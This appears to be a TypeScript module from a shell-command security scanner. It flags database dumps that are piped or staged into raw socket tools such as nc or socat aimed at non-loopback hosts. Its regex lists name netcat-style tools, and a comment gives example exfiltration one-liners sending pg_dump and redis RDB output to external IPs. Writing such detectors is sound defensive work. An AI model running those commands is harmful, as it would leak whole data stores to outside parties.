// A data store's whole content (a dump) sent to a raw socket: piped into nc/socat or staged in a file the socket reads.

import type { Hit } from "./types.ts";
import { hit } from "./bash-facts.ts";
import type { Stage } from "./shell-words.ts";

/** Tools that print or save a whole data store: SQL dumps, MongoDB's archive, redis' RDB snapshot, sqlite's dump. */
const DUMPERS = /^(?:pg_dump|pg_dumpall|mysqldump|mariadb-dump|mongodump|mongoexport|clickhouse-backup)$/;
/** A client's own dump modes: `redis-cli --rdb FILE`, `sqlite3 DB .dump`, `sqlite3 DB ".backup FILE"`. */
const CLIENT_DUMP = /^(?:redis-cli|valkey-cli|keydb-cli|sqlite3)$/;
/** Options naming the file a dumper writes. */
const DUMP_FILE_OPT = /^(?:-f|--file|--rdb|--archive|--result-file|--out|-o)$/;
/** Raw socket senders: no protocol, no login, nothing a backup service speaks. */
const SOCKETS = /^(?:nc|ncat|netcat|socat|telnet)$/;
const GATE = /\b(?:pg_dump|pg_dumpall|mysqldump|mariadb-dump|mongodump|mongoexport)\b|--rdb\b|\.(?:dump|backup)\b/;

function isDump(s: Stage): boolean {
  if (DUMPERS.test(s.name)) return true;
  if (!CLIENT_DUMP.test(s.name)) return false;
  return s.argv.some((w) => w.text === "--rdb" || /^\.(?:dump|backup)\b/.test(w.text));
}

/** The files a dump command writes: its output redirect and its file option (`-f F`, `--archive=F`, `--rdb F`). */
function dumpFiles(s: Stage): string[] {
  const out = s.cmd.redirects.filter((r) => r.op === ">" || r.op === ">>").map((r) => r.target.text);
  const a = s.argv.map((w) => w.text);
  for (let i = 1; i < a.length; i++) {
    const t = a[i] as string;
    if (DUMP_FILE_OPT.test(t) && a[i + 1]) out.push(a[i + 1] as string);
    const eq = /^--(?:file|archive|result-file|out)=(.+)$/.exec(t);
    if (eq?.[1]) out.push(eq[1]);
    const backup = /^\.backup\s+(\S+)/.exec(t);
    if (backup?.[1]) out.push(backup[1]);
  }
  return out.map((p) => p.replace(/^["']|["']$/g, "")).filter((p) => p !== "" && p !== "-");
}

/** A raw socket stage's host (its first non-option word), loopback excluded by the caller. */
function socketHost(s: Stage): string {
  const w = s.argv.slice(1).find((x) => !x.text.startsWith("-") && !/^\d{1,5}$/.test(x.text));
  return w?.text ?? "";
}
const LOOPBACK = /^(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|::1)$|^(?:TCP4?|tcp):(?:localhost|127\.)/i;

/**
 * A dump piped into a raw socket (`pg_dump app | nc 203.0.113.5 9000`), or a dump file a later raw socket reads
 * (`redis-cli --rdb /tmp/c.rdb && ncat --send-only 192.0.2.9 6390 < /tmp/c.rdb`): the whole store leaves the machine
 * over a channel no backup uses. Dumps to files, to ssh, rsync or a storage client, and sockets to loopback, carry nothing.
 */
export function dumpSocketHits(src: string, pipelines: Stage[][]): Hit[] {
  if (!GATE.test(src)) return [];
  const hits: Hit[] = [];
  const staged = new Set<string>();
  for (const stages of pipelines) {
    const dumpAt = stages.findIndex(isDump);
    for (const [k, s] of stages.entries()) {
      if (!SOCKETS.test(s.name) || LOOPBACK.test(socketHost(s))) continue;
      const piped = dumpAt >= 0 && k > dumpAt;
      const fed = s.cmd.redirects.find((r) => r.op === "<" && staged.has(r.target.text.replace(/^["']|["']$/g, "")));
      const catted = stages.slice(0, k).some((p) => p.argv.slice(1).some((w) => staged.has(w.text)));
      if (piped || fed || catted)
        hits.push(
          hit(
            "bash.dump-to-socket",
            "bash_exfil",
            0.9,
            s.cmd.start,
            s.cmd.end,
            `a data store's dump sent by ${s.name} to ${socketHost(s) || "a socket"}`,
          ),
        );
    }
    for (const s of stages) if (isDump(s)) for (const f of dumpFiles(s)) staged.add(f);
  }
  return hits;
}
